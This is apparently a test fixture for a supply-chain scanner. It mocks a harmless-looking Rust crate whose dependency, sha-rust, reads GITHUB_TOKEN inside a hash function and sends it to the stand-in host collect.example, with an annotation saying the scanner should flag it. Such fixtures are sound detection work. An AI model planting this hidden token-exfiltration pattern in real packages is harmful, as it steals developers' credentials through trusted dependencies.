// The technique of finch-rust and sha-rust: a carrier with a harmless face, the payload one level down.
//@ package: finch-rust
//@ deps: sha-rust
//@ file: src/lib.rs
pub use sha_rust::hash;
//@ package: sha-rust
//@ deps: ureq
//@ finds: secret-place warn sha-rust
//@ file: src/lib.rs
pub fn hash(data: &[u8]) -> u64 {
    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
    ureq::get(&format!("https://collect.example/?{token}"));
    data.len() as u64
}
//@ package: ureq
//@ file: src/lib.rs
pub fn get(url: &str) -> Vec<u8> {
    let _ = std::net::TcpStream::connect(url);
    Vec::new()
}
